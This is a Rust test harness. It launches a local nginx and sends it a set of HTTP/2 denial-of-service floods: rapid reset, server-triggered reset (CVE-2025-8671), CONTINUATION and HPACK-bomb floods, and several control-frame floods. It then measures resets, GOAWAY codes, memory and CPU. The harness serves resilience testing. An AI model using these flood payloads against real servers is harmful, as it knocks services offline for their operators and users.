//! What a client of HTTP/2 can send without end: right frames, of which each costs the server more than the client.

use std::io::Write;
use std::net::{Shutdown, TcpStream};
use std::path::Path;
use std::time::Duration;

use crate::http2::{BEGINNING, END_STREAM, GET, WHOLE, frame, kind, literal, number_at, read_frame, setting};
use crate::ports::Ports;
use crate::program::Server;
use crate::scratch::Scratch;

const CONFIGURATION: &str = r#"
daemon off;
pid nginx.pid;
events {}
http {
    access_log off;
    http2 on;
    send_timeout 2s;
    server {
        listen 127.0.0.1:8080;
        location / { return 200 "said\n"; }
        location /large { root .; }
        location /taken { client_max_body_size 0; proxy_pass http://127.0.0.1:8081; }
    }
    server {
        listen 127.0.0.1:8081;
        return 200 "taken\n";
    }
}
"#;

/// Bytes that are sent until the connection is over, or often enough.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// What it is called.
    pub name: &'static str,
    /// What is sent for a number, from 0.
    piece: fn(u32) -> Vec<u8>,
    /// How often, if the server does not end it.
    count: u32,
    /// The client waits until the server has given up so many streams.
    awaited_resets: u32,
}

/// What came of a flood.
#[derive(Clone, Copy, Debug)]
pub struct Seen {
    /// The code of the last GOAWAY.
    pub code: Option<u32>,
    /// How many streams the server has reset.
    pub resets: u32,
    /// How much the worker had grown at its largest.
    pub grown_kilobytes: u64,
    /// The worker's time.
    pub cpu_ms: u64,
}

const fn stream(index: u32) -> u32 {
    2 * index + 1
}

fn get(index: u32) -> Vec<u8> {
    frame(kind::HEADERS, WHOLE, stream(index), GET)
}

/// `POST http://a/taken` without its body before everything else.
fn behind_post(index: u32, piece: Vec<u8>) -> Vec<u8> {
    let head = [&[0x83, 0x86, 0x41, 1, b'a'][..], &literal(":path", "/taken")].concat();
    // A body may come only when the server knows that its SETTINGS are known.
    let acknowledgement = frame(kind::SETTINGS, 1, 0, &[]);
    match index {
        0 => [acknowledgement, frame(kind::HEADERS, 4, 1, &head), piece].concat(),
        _ => piece,
    }
}

fn begun(index: u32) -> Vec<u8> {
    if index == 0 { frame(kind::HEADERS, END_STREAM, 1, GET) } else { Vec::new() }
}

/// One line of 4,000 bytes in the table, then named by a byte each: 12,000 of them in a frame.
fn bomb(index: u32) -> Vec<u8> {
    let kept = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000]].concat();
    let head = if index == 0 { kept } else { Vec::new() };
    frame(kind::HEADERS, WHOLE, stream(index), &[GET, &head, &[0xbe; 12_000]].concat())
}

fn large_continuation(index: u32) -> Vec<u8> {
    let large = literal("x-test", &"a".repeat(100)).repeat(140);
    [begun(index), frame(kind::CONTINUATION, 0, 1, &large)].concat()
}

fn reset_by_client(index: u32) -> Vec<u8> {
    [get(index), frame(kind::RST_STREAM, 0, stream(index), &[0, 0, 0, 8])].concat()
}

/// A window that opens by nothing is the client's fault, and the stream's end the server's work (CVE-2025-8671).
fn reset_by_server(index: u32) -> Vec<u8> {
    [get(index), frame(kind::WINDOW_UPDATE, 0, stream(index), &[0; 4])].concat()
}

fn unread(index: u32) -> Vec<u8> {
    let large = [&[0x82, 0x86, 0x41, 1, b'a'][..], &literal(":path", "/large")].concat();
    let closed = if index == 0 { frame(kind::SETTINGS, 0, 0, &setting(4, 0)) } else { Vec::new() };
    [closed, frame(kind::HEADERS, WHOLE, stream(index), &large)].concat()
}

const fn flood(name: &'static str, count: u32, piece: fn(u32) -> Vec<u8>) -> Flood {
    Flood { name, piece, count, awaited_resets: 0 }
}

/// All of them.
pub const FLOODS: &[Flood] = &[
    flood("rapid reset", 200_000, reset_by_client),
    flood("reset by the server", 200_000, reset_by_server),
    flood("RST_STREAM", 1000, |index| {
        [begun_whole(index), frame(kind::RST_STREAM, 0, 1, &[0, 0, 0, 8]).repeat(1000)].concat()
    }),
    flood("CONTINUATION", 10_000, large_continuation),
    flood("empty CONTINUATION", 1000, |index| {
        [begun(index), frame(kind::CONTINUATION, 0, 1, &[]).repeat(1000)].concat()
    }),
    flood("HPACK bomb", 2000, bomb),
    flood("SETTINGS", 2000, |_| frame(kind::SETTINGS, 0, 0, &setting(4, 65_535)).repeat(1000)),
    flood("empty SETTINGS", 2000, |_| frame(kind::SETTINGS, 0, 0, &[]).repeat(1000)),
    flood("PING", 2000, |_| frame(kind::PING, 0, 0, &[0; 8]).repeat(1000)),
    flood("PRIORITY", 2000, |_| frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 1]).repeat(1000)),
    flood("WINDOW_UPDATE", 2000, |_| frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(1000)),
    flood("empty DATA", 2000, |index| behind_post(index, frame(kind::DATA, 0, 1, &[]).repeat(1000))),
    flood("unknown frames", 2000, |_| frame(0x99, 0, 0, &[]).repeat(1000)),
    Flood { awaited_resets: 100, ..flood("window of zero", 100, unread) },
];

fn begun_whole(index: u32) -> Vec<u8> {
    if index == 0 { get(0) } else { Vec::new() }
}

impl Flood {
    /// Plays it with a server of its own.
    pub fn play(&self, program: &Path) -> Result<Seen, String> {
        let scratch = Scratch::new()?;
        scratch.write("large", &"x".repeat(1 << 20))?;
        let mut ports = Ports::default();
        let _server = Server::start_nginx(program, CONFIGURATION, &scratch, &mut ports, &[8080, 8081])?;
        let worker = worker(&scratch.path().join("nginx.pid"))?;
        let before = worker.kilobytes("VmRSS:")?;
        let (code, resets) = self.send(ports.real(8080)).map_err(|error| error.to_string())?;
        let grown_kilobytes = worker.kilobytes("VmHWM:")?.saturating_sub(before);
        Ok(Seen { code, resets, grown_kilobytes, cpu_ms: worker.cpu_ms()? })
    }

    fn send(&self, port: u16) -> std::io::Result<(Option<u32>, u32)> {
        let mut client = TcpStream::connect(("127.0.0.1", port))?;
        client.set_read_timeout(Some(Duration::from_secs(20)))?;
        client.set_write_timeout(Some(Duration::from_secs(20)))?;
        client.write_all(BEGINNING)?;
        let mut reader = client.try_clone()?;
        let awaited = self.awaited_resets;
        let heard = std::thread::spawn(move || {
            let (mut code, mut resets) = (None, 0);
            while let Some((kind, _, _, payload)) = read_frame(&mut reader) {
                match kind {
                    kind::GOAWAY => code = Some(number_at(&payload, 4)),
                    kind::RST_STREAM => resets += 1,
                    _ => {}
                }
                if awaited > 0 && resets == awaited {
                    break;
                }
            }
            (code, resets)
        });
        let was_taken = (0..self.count).all(|index| client.write_all(&(self.piece)(index)).is_ok());
        if was_taken && awaited == 0 {
            // A server that has closed the connection already has said what it had to say.
            drop(client.shutdown(Shutdown::Write));
        }
        Ok(heard.join().unwrap_or_default())
    }
}

/// The one worker of a server.
struct Worker(u32);

fn worker(pid_file: &Path) -> Result<Worker, String> {
    for _ in 0..4000 {
        // It listens before it says so, and before it has a worker.
        let master = std::fs::read_to_string(pid_file).unwrap_or_default();
        let children = format!("/proc/{0}/task/{0}/children", master.trim());
        let children = std::fs::read_to_string(children).unwrap_or_default();
        if let Ok(pid) = children.trim().parse() {
            return Ok(Worker(pid));
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    Err("the server has no worker".to_owned())
}

impl Worker {
    fn file(&self, name: &str) -> Result<String, String> {
        std::fs::read_to_string(format!("/proc/{}/{name}", self.0)).map_err(|error| format!("the worker: {error}"))
    }

    fn kilobytes(&self, line: &str) -> Result<u64, String> {
        let status = self.file("status")?;
        let value = status.lines().find_map(|known| known.strip_prefix(line));
        let value = value.and_then(|value| value.trim().trim_end_matches(" kB").parse().ok());
        value.ok_or_else(|| format!("no {line}"))
    }

    /// User and system time; the kernel counts hundredths of a second.
    fn cpu_ms(&self) -> Result<u64, String> {
        let stat = self.file("stat")?;
        let fields = stat.rsplit_once(") ").map_or("", |(_, fields)| fields);
        let ticks = fields.split(' ').skip(11).take(2).filter_map(|field| field.parse::<u64>().ok());
        Ok(10 * ticks.sum::<u64>())
    }
}
